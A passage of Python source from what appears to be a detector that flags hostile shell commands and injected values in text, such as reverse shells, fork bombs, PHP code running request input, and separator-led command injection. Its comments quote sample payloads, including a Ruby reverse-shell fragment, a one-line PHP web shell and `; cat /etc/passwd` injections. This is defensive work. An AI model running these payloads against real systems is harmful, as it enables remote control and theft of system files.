    rules = _PROSE_RULES if view.prose else _DOCUMENT_RULES if shown else _CODE_RULES
    code_only = _DOCUMENT_CODE_ONLY if shown else _CODE_ONLY_RULES
    # Source code shown whole, a document or a snippet of a few lines, is exempt from the
    # rules its language's own words break (`_SOURCES`, `_SNIPPET_SOURCES`), told by the
    # text as sent: Markdown's indented blocks, blanked as examples, hold declarations.
    sources = _SOURCES if view.document else _SNIPPET_SOURCES if several else ()
    exempt = frozenset[int]()
    if sources and not view.prose:
        exempt = frozenset(rule for source, names in sources if source(sent) for rule in names)
    if exempt:
        rules, code_only = _SOURCE_RULES[exempt]
        if R_PHP.id in exempt and "$_" in lower:
            run = _request_run(lower)
            if run is not None:
                return run
    elif (
        not view.prose
        and (
            _PACKAGE_POINT.search(view.point)
            or ("java" in lower and (_THROWN.match(lower) or _JAVA_TRACE.search(lower)))
            or _JAVA_DECLARATION.fullmatch(lower)
            # A JSON document a value decodes to (a bill of materials in base64) is read as
            # its points too, each string by its own name: whole, its strings' names are data.
            or (lower[:1] in "{[" and view.json is not None)
            # A term looked up (`?q=org.springframework.web.bind`): no deserialiser reads it.
            or view.search
            or search_box(view.point)
        )
    ):
        rules, code_only = _NO_JAVA_NAMES
    elif not view.prose and not view.is_key and NAMED_IN_WORDS.fullmatch(lower):
        rules, code_only = _NO_NAMES
    found = _PROSE_RULES.search(lower, present)
    if found is not None and found.rule is R_REVERSE and lower[found.start] == "|":
        # "Install with `curl -fsSL https://get.example.com | sh`.": a pipe into a shell in
        # Markdown's inline code, in sentences, is an install line shown.
        shown_pipes = _inline_pipes_blanked(lower)
        if shown_pipes[found.start] != "|":
            found = _PROSE_RULES.search(shown_pipes, present)
    if found is not None:
        found = _tools_run(lower, found, present, view.prose)
    if not found and code_only.possible(present) and not view.prose:
        found = code_only.search(lower, present)
    if not found and view.prose:
        found = _separated_expansion(lower)
        broken = _BROKEN_EXEC.search(lower) if not found and "(" in lower else None
        if broken:
            found = Match(R_PHP, broken.start(), broken.end())
        if not found and "$_" in lower and _PHP_SOURCE.search(sent):
            # A class of PHP on one line reads as words (`class Shell { public function
            # run() { system($_GET['c']); } }`): its source runs what the request sends.
            found = _request_run(lower)
    if found:
        return found
    found = _fork_bomb(lower)
    if found:
        return found
    if "sock" in lower or "net." in lower or "tcpclient" in lower:
        found = _reverse_shell(lower)
        if found:
            return found
    # PHP and JavaScript let comments sit between a function's name and its call.
    code = _uncommented(lower) if "/*" in lower or "//" in lower or "#" in lower else None
    if code is not None:
        found = _rules_run(rules, code, view)
        if found:
            return found
    if "|" in lower and ("'" in lower or '"' in lower):
        lower = _LITERAL_UNION.sub(_union_pipe_blanked, lower)  # the same length
    shell = shell_normalize(lower)
    if shell != lower:
        # The rules saw every line folding left alone: in a long text only the others.
        folded = changed_lines(lower, shell)
        found = _rules_run(rules, folded, view) or _fork_bomb(folded)
        if found:
            return found
    if not view.prose and ("?" in shell or "*" in shell):
        found = _glob_target(shell)
        if found:
            return found
    # A line break a decoder made (`%0a` in a JSON string) is no text field's either.
    one_line = view.area in _ONE_LINE or view.decoded
    found = _command(shell, view.prose, view.is_key, view.document, one_line, view.text)
    if found is None and shell != lower:
        # A command line whose quoted argument folding unquoted: `ruby -rsocket
        # -e'f=TCPSocket.open("10.0.0.1",4242)…'` calls nothing out of quotes.
        found = _command(lower, view.prose, view.is_key, view.document, written=view.text)
        if found is not None and found.rule is not R_LEADING and not view.prose:
            found = None
    if found is None and view.prose and not view.document and "\n" in shell:
        found = _probe_after_sentence(shell, view.text)
    if found is not None and found.rule is R_LEADING and _searched(view, lower):
        found = None  # `tar -xzvf archive.tar.gz` typed into a search box: words to find
    tail = max(0, len(lower) - CLAUSE_CHARS)
    if found is None and view.prose and _SEPARATOR_CHAR.search(lower, tail):
        found = _separated_clause(view, lower)
    if found is None and view.prose and _opens_with_separator(lower):
        found = _separated_head(view)
    if found is None and view.prose and '"' in lower:
        found = _separated_quotation(view, lower)
    return found


# A pipe, not `||`, opening a span: the stage of a pipeline a text talks about.
_PIPE_SHOWN: Final = re.compile(r"\s*\|(?!\|)")


def _in_example(view: View, shown: str, at: int) -> bool:
    """Whether `at` of `view`'s text is in a code block that `shown`, the text with its
    examples blanked character for character (`_unmarked`), blanked."""
    return len(shown) == len(view.text) and shown[at : at + 1] == _FILLER


def _separated_quotation(view: View, shown: str) -> Match | None:
    """A span of prose in double quotes (`View.quotations`) that opens with a separator,
    read whole as a value: 'The user entered "; cat /etc/passwd" in the name field'. A
    pipe's stage that prose would not count is talked about: 'The "| sort -u" removes
    duplicate lines'. Nor is a string of a code block that `shown`, the text with its
    examples blanked (`_unmarked`), shows: a script's `dir="$(npm root --global)"`."""
    for start, quoted in view.quotations:
        if not _opens_with_separator(quoted.lower):
            continue
        if _in_example(view, shown, start):
            continue
        if _comment_line(view.lower, start):
            continue  # a comment's grammar: `# dataurl := "data:" [ ";base64" ] "," data`
        line = view.lower.rfind("\n", 0, start) + 1
        if _PROMPT.match(view.lower, line) or _SHOWN_COMMAND.match(view.lower, line, start):
            continue  # an argument of a command line shown: `$ date --date="$(date +%F) -1 day"`
        found = confirm(quoted)
        if (
            found is not None
            and found.rule in (R_SEPARATOR, R_LEADING)
            and _PIPE_SHOWN.match(quoted.lower)
            and _command(shell_normalize(quoted.lower), True, view.is_key, False) is None
        ):
            found = None  # a pipe's stage talked about: "| sort -u", "| less"
        if found is not None:
            return found.moved(start)
    return None


def _separated_head(view: View) -> Match | None:
    """A command that the separator a text of prose opens with starts, read up to the end of
    that first clause (`View.first_clause`), or that clause read as a value of its own:
    "; ls -la (this is what I typed)", `;{cat,/etc/passwd} (…)`. Prose seldom opens so."""
    end = HEAD_BREAK.search(view.lower, 0, CLAUSE_CHARS)
    text = view.lower[: end.start() if end else CLAUSE_CHARS]
    found = _command(shell_normalize(text), False, view.is_key, False)
    if found is not None and found.rule is R_SEPARATOR:
        return found
    head = view.first_clause
    return confirm(head) if head is not None else None


def _opens_with_separator(lower: str) -> bool:
    """Whether `lower` opens with a separator, or with a quote closed before one:
    `'; exec('id'); '`."""
    opening = lower.lstrip()
    if opening[:1] in ("'", '"'):
        opening = opening[1:].lstrip()
    return opening.startswith(_OPENING_SEPARATORS)


def _separated_clause(view: View, shown: str) -> Match | None:
    """A command that a separator opening the last clause of prose starts (`View.last_clause`):
    "…here is the value from my form: ; ls -la", or that clause read as a value of its own
    (`;{cat,/etc/passwd}`). A clause that starts with a command line ("Usage: ls -la") is
    an instruction, and is not read; nor is one on the line of a code block that `shown`,
    the text with its examples blanked (`_unmarked`), shows (`echo SYNC: $(git rev-parse
    HEAD)` closing a literal block)."""
    clause = view.last_clause
    if (
        clause is None
        or not _opens_with_separator(clause.lower)
        or _TABLE_ROW.fullmatch(clause.lower) is not None
    ):
        return None
    start = len(view.text) - len(clause.text)
    if _in_example(view, shown, start):
        return None
    found = _command(shell_normalize(clause.lower), False, view.is_key, False)
    if found is None or found.rule is not R_SEPARATOR:
        # Read whole as the value it is: `;{cat,/etc/passwd}`, `;echo${IFS}pwned`.
        found = confirm(clause)
    if found is None:
        return None
    return found.moved(start)
